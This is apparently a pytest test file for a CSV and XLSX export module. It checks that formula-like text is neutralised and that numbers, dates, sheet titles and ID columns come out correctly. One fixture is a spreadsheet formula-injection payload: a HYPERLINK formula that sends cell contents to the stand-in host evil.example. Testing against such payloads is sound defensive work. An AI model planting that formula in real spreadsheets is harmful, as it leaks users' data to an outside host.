"""The one writer of CSV and XLSX: untrusted text never becomes a formula, numbers stay numbers, dates
are date cells."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Final

import pytest
from openpyxl import load_workbook

from domain.exports import Cell, Sheet, csv_bytes, neutralise, xlsx_bytes

HYPERLINK: Final = '=HYPERLINK("http://evil.example/?d="&A1,"点击领取培训补贴")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+8学时 外省培训补录", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"],
)
def test_text_starting_like_a_formula_gets_a_leading_quote_in_csv(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert csv_bytes([[text]]).decode("utf-8-sig").startswith(("'", "\"'"))


@pytest.mark.parametrize("text", ["社会工作实务", "8学时", "a=b", " =1", "＝1+1", ""])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert neutralise(text) == text


def test_csv_is_utf_8_with_a_byte_order_mark_numbers_and_dates_as_written() -> None:
    data = csv_bytes([["日期", "学时"], [date(2027, 1, 5), Decimal("-8.0")], [None, 16]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "日期,学时\r\n2027-01-05,-8.0\r\n,16\r\n"


def test_a_time_stamp_is_written_in_shanghai_time() -> None:
    moment = datetime(2027, 1, 5, 1, 30, tzinfo=UTC)
    assert csv_bytes([[moment]]).decode("utf-8-sig") == "2027-01-05 09:30\r\n"
    cell = load_workbook(io.BytesIO(xlsx_bytes([Sheet("t", [[moment]])]))).active["A1"]  # type: ignore[index]
    assert cell.value == datetime(2027, 1, 5, 9, 30)  # noqa: DTZ001 - Excel cells hold no time zone


def test_formula_like_text_is_a_string_cell_in_xlsx_never_a_formula() -> None:
    data = xlsx_bytes([Sheet("记录", [[HYPERLINK, "+8学时 外省培训补录", "@x"]])])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = list(sheet[1])
    assert [c.value for c in cells] == [HYPERLINK, "+8学时 外省培训补录", "@x"]
    assert [c.data_type for c in cells] == ["s", "s", "s"]
    # Excel's own mark for "this is text", so editing the cell in Excel keeps it text.
    assert all(c.quotePrefix for c in cells)


def test_numbers_are_numbers_and_dates_are_date_cells_in_xlsx() -> None:
    data = xlsx_bytes([Sheet("记录", [[Decimal("12.5"), 3, date(2027, 1, 5)]])])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    hours, count, day = sheet[1]
    assert (hours.data_type, hours.value, count.value) == ("n", 12.5, 3)
    assert day.value == datetime(2027, 1, 5)  # noqa: DTZ001 - Excel date cells are naive
    assert day.number_format == "yyyy-mm-dd"


def test_characters_xml_cannot_hold_are_dropped_rather_than_failing_the_export() -> None:
    data = xlsx_bytes([Sheet("记录", [["培训\x01班\x1f"]])])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet["A1"].value == "培训班"


def test_sheets_keep_their_titles_widths_and_text_columns() -> None:
    data = xlsx_bytes(
        [
            Sheet("说明", [["填写说明"]]),
            Sheet("名单", [["身份证号", "学时"]], widths=(22, 8), text_columns=(0,)),
        ]
    )
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["说明", "名单"]
    roster = workbook["名单"]
    assert roster.column_dimensions["A"].width == 22
    assert roster.column_dimensions["A"].number_format == "@"
    assert roster.column_dimensions["B"].number_format == "General"


def test_empty_text_is_an_empty_cell_not_an_empty_string_cell() -> None:
    data = xlsx_bytes([Sheet("记录", [["合计", "", Decimal("96.0")]])])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert 'r="B1"' not in sheet_xml
    assert "<is><t></t></is>" not in sheet_xml
    assert "<is><t/></is>" not in sheet_xml


@pytest.mark.parametrize(
    ("title", "written"),
    [
        pytest.param("2027[一季度]:培训*学时?/汇总\\表", "2027_一季度__培训_学时__汇总_表", id="forbidden"),
        pytest.param("楚雄州社会工作人才培训学时汇总表（二〇二七年第一季度）全部县市", None, id="too long"),
        pytest.param("'名单'", "名单", id="quotes at the ends"),
        pytest.param("", "Sheet", id="empty"),
    ],
)
def test_sheet_titles_are_made_valid_for_excel(title: str, written: str | None) -> None:
    data = xlsx_bytes([Sheet(title, [["x"]])])
    [name] = load_workbook(io.BytesIO(data)).sheetnames
    assert len(name) <= 31
    assert not set(name) & set("[]:*?/\\")
    assert name == (written if written is not None else title[:31])


def test_two_sheets_whose_titles_clean_to_the_same_stay_distinct() -> None:
    data = xlsx_bytes([Sheet("名单/一", [["x"]]), Sheet("名单:一", [["y"]])])
    assert load_workbook(io.BytesIO(data)).sheetnames == ["名单_一", "名单_一 (2)"]


def test_a_decimal_reads_the_same_in_csv_and_xlsx() -> None:
    # Hours are kept to one decimal place: 96.0 in the CSV, and a number shown as 96.0 in Excel.
    rows = [[Decimal("96.0"), Decimal("12.5"), Decimal("1E+2"), Decimal("0.50")]]
    assert csv_bytes(rows).decode("utf-8-sig") == "96.0,12.5,100,0.50\r\n"
    sheet = load_workbook(io.BytesIO(xlsx_bytes([Sheet("记录", rows)]))).active
    assert sheet is not None
    assert [(c.value, c.number_format) for c in sheet[1]] == [
        (96, "0.0"),
        (12.5, "0.0"),
        (100, "0"),
        (0.5, "0.00"),
    ]


def test_codes_in_text_columns_of_a_csv_stay_text_when_excel_opens_them() -> None:
    rows: list[list[Cell]] = [
        ["身份证号", "账号", "金额", "说明"],
        ["53230119900312102X", "0062170000111122223", Decimal("15.00"), "123"],
    ]

    written = csv_bytes(rows, text_columns=(0, 1)).decode("utf-8-sig").splitlines()

    # ="…" is text to Excel and WPS: no 5.32301E+17, no lost leading zeros. Other columns as written.
    assert written[1] == '"=""53230119900312102X""","=""0062170000111122223""",15.00,123'
    # Headers and formula-like text in a text column are still plain or neutralised text.
    assert written[0] == "身份证号,账号,金额,说明"
    assert csv_bytes([["=1+1"]], text_columns=(0,)).decode("utf-8-sig").strip() == "'=1+1"
